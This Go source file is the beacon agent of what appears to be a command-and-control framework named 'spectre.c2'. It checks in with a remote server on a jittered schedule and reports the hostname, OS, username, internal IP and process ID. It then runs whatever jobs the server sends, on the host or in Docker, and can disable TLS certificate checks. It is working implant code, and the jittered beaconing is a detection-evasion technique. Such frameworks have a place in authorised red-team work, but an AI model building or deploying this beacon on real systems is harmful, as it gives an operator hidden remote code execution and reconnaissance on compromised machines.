package agent

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"math/rand"
	"net"
	"net/http"
	"os"
	"os/user"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"time"

	"github.com/google/uuid"
	"github.com/shirou/gopsutil/v3/host"
	"spectre.c2/internal/core/domain"
	"spectre.c2/internal/core/logger"
)

// Version is stamped at build time.
var Version = "0.1.0"

const maxConcurrentJobs = 4

// Agent is the reference beacon. It checks in on a jittered interval,
// executes whatever the server hands back, and delivers results on the next
// heartbeat. Execution never blocks the check-in loop.
type Agent struct {
	cfg      domain.AgentConfig
	client   *http.Client
	beaconID string
	executor *Executor
	docker   *DockerExecutor // nil unless a job asks for a container

	semaphore chan struct{}
	wg        sync.WaitGroup

	mu      sync.Mutex
	results []domain.JobResult
}

func New(cfg domain.AgentConfig, stateDir string) (*Agent, error) {
	if cfg.ServerURL == "" {
		return nil, fmt.Errorf("server_url is required")
	}
	if cfg.SleepInterval <= 0 {
		cfg.SleepInterval = domain.DefaultSleepInterval
	}
	if cfg.JitterPercent < domain.MinJitterPercent || cfg.JitterPercent > domain.MaxJitterPercent {
		cfg.JitterPercent = domain.DefaultJitterPercent
	}

	transport := &http.Transport{}
	if !cfg.VerifySSL {
		transport.TLSClientConfig = &tls.Config{InsecureSkipVerify: true}
	}

	beaconID, err := loadOrCreateID(stateDir)
	if err != nil {
		return nil, fmt.Errorf("beacon id: %w", err)
	}

	return &Agent{
		cfg:       cfg,
		client:    &http.Client{Timeout: 30 * time.Second, Transport: transport},
		beaconID:  beaconID,
		executor:  NewExecutor(),
		semaphore: make(chan struct{}, maxConcurrentJobs),
	}, nil
}

// loadOrCreateID reads the persisted beacon identity, generating it on the
// first run. The ID survives restarts so the server sees one beacon, not a
// new one per process.
func loadOrCreateID(stateDir string) (string, error) {
	if stateDir == "" {
		home, err := os.UserHomeDir()
		if err != nil {
			stateDir = os.TempDir()
		} else {
			stateDir = home
		}
	}
	path := filepath.Join(stateDir, ".beacon_id")

	if data, err := os.ReadFile(path); err == nil {
		id := strings.TrimSpace(string(data))
		if id != "" {
			return id, nil
		}
	}

	id := "beacon-" + uuid.New().String()
	if err := os.WriteFile(path, []byte(id), 0600); err != nil {
		return "", err
	}
	return id, nil
}

// Run drives the check-in loop until ctx is cancelled. In-flight jobs get a
// grace period to finish and report before the process exits.
func (a *Agent) Run(ctx context.Context) error {
	logger.Info("beacon started", "beacon_id", a.beaconID, "server", a.cfg.ServerURL,
		"sleep", a.cfg.SleepInterval, "jitter", a.cfg.JitterPercent)

	for {
		if err := a.checkin(ctx); err != nil {
			logger.Warn("check-in failed", "error", err)
		}

		select {
		case <-ctx.Done():
			done := make(chan struct{})
			go func() {
				a.wg.Wait()
				close(done)
			}()
			select {
			case <-done:
			case <-time.After(30 * time.Second):
				logger.Warn("shutdown timeout, abandoning running jobs")
			}
			// Last chance to deliver results already collected.
			flushCtx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			defer cancel()
			if err := a.checkin(flushCtx); err != nil {
				logger.Warn("final result delivery failed", "error", err)
			}
			return nil
		case <-time.After(a.sleepDuration()):
		}
	}
}

// sleepDuration applies the configured jitter: the base interval scaled by a
// random factor in [1-j/100, 1+j/100].
func (a *Agent) sleepDuration() time.Duration {
	base := float64(a.cfg.SleepInterval) * float64(time.Second)
	jitter := float64(a.cfg.JitterPercent) / 100
	factor := 1 + jitter*(2*rand.Float64()-1)
	return time.Duration(base * factor)
}

type checkinRequest struct {
	BeaconID string `json:"beacon_id"`
	domain.CheckinAttrs
	JobResults []domain.JobResult `json:"job_results,omitempty"`
}

type checkinResponse struct {
	Jobs []*domain.Job `json:"jobs"`
}

func (a *Agent) checkin(ctx context.Context) error {
	req := checkinRequest{
		BeaconID:     a.beaconID,
		CheckinAttrs: a.collectAttrs(),
		JobResults:   a.drainResults(),
	}

	body, err := json.Marshal(req)
	if err != nil {
		return err
	}

	httpReq, err := http.NewRequestWithContext(ctx, http.MethodPost,
		strings.TrimRight(a.cfg.ServerURL, "/")+"/api/checkin", bytes.NewReader(body))
	if err != nil {
		return err
	}
	httpReq.Header.Set("Content-Type", "application/json")

	resp, err := a.client.Do(httpReq)
	if err != nil {
		// Results that did not make it go back for the next attempt.
		a.requeueResults(req.JobResults)
		return err
	}
	defer resp.Body.Close()

	if resp.StatusCode != http.StatusOK {
		a.requeueResults(req.JobResults)
		return fmt.Errorf("server returned %s", resp.Status)
	}

	var out checkinResponse
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		return err
	}

	for _, job := range out.Jobs {
		a.startJob(ctx, job)
	}
	return nil
}

func (a *Agent) drainResults() []domain.JobResult {
	a.mu.Lock()
	defer a.mu.Unlock()
	results := a.results
	a.results = nil
	return results
}

func (a *Agent) requeueResults(results []domain.JobResult) {
	if len(results) == 0 {
		return
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	a.results = append(results, a.results...)
}

func (a *Agent) pushResult(res domain.JobResult) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.results = append(a.results, res)
}

// startJob executes one job in the background, bounded by the semaphore.
func (a *Agent) startJob(ctx context.Context, job *domain.Job) {
	logger.Info("job received", "job_id", job.ID, "type", job.Type)
	a.wg.Add(1)
	go func() {
		defer a.wg.Done()
		select {
		case a.semaphore <- struct{}{}:
			defer func() { <-a.semaphore }()
		case <-ctx.Done():
			return
		}
		a.pushResult(a.execute(ctx, job))
	}()
}

// execute routes the job to the right executor: container jobs go through
// docker, everything else runs on the host.
func (a *Agent) execute(ctx context.Context, job *domain.Job) domain.JobResult {
	if image, ok := job.Parameters.GetString("container_image"); ok && image != "" {
		if a.docker == nil {
			docker, err := NewDockerExecutor()
			if err != nil {
				exit := 1
				return domain.JobResult{
					JobID:    job.ID,
					Status:   domain.JobStatusFailed,
					Error:    fmt.Sprintf("docker unavailable: %v", err),
					ExitCode: &exit,
				}
			}
			a.docker = docker
		}
		return a.docker.Execute(ctx, job, image)
	}
	return a.executor.Execute(ctx, job)
}

// collectAttrs gathers the host facts reported on every heartbeat.
func (a *Agent) collectAttrs() domain.CheckinAttrs {
	attrs := domain.CheckinAttrs{
		Architecture: runtime.GOARCH,
		ProcessName:  filepath.Base(os.Args[0]),
		ProcessID:    os.Getpid(),
		Version:      Version,
		InternalIP:   internalIP(),
	}

	if info, err := host.Info(); err == nil {
		attrs.Hostname = info.Hostname
		attrs.OSInfo = fmt.Sprintf("%s %s (%s)", info.Platform, info.PlatformVersion, info.KernelVersion)
	} else if hostname, err := os.Hostname(); err == nil {
		attrs.Hostname = hostname
		attrs.OSInfo = runtime.GOOS
	}

	if u, err := user.Current(); err == nil {
		attrs.Username = u.Username
	}
	return attrs
}

// internalIP picks the first non-loopback IPv4 address.
func internalIP() string {
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		return ""
	}
	for _, addr := range addrs {
		ipNet, ok := addr.(*net.IPNet)
		if !ok || ipNet.IP.IsLoopback() {
			continue
		}
		if ip4 := ipNet.IP.To4(); ip4 != nil {
			return ip4.String()
		}
	}
	return ""
}

// FetchConfig pulls the published agent config from the server, for installs
// that boot with only a server URL.
func FetchConfig(ctx context.Context, serverURL string, verifySSL bool) (domain.AgentConfig, error) {
	transport := &http.Transport{}
	if !verifySSL {
		transport.TLSClientConfig = &tls.Config{InsecureSkipVerify: true}
	}
	client := &http.Client{Timeout: 10 * time.Second, Transport: transport}

	req, err := http.NewRequestWithContext(ctx, http.MethodGet,
		strings.TrimRight(serverURL, "/")+"/api/agent/config", nil)
	if err != nil {
		return domain.AgentConfig{}, err
	}
	resp, err := client.Do(req)
	if err != nil {
		return domain.AgentConfig{}, err
	}
	defer resp.Body.Close()

	if resp.StatusCode != http.StatusOK {
		return domain.AgentConfig{}, fmt.Errorf("server returned %s", resp.Status)
	}
	var cfg domain.AgentConfig
	if err := json.NewDecoder(resp.Body).Decode(&cfg); err != nil {
		return domain.AgentConfig{}, err
	}
	return cfg, nil
}
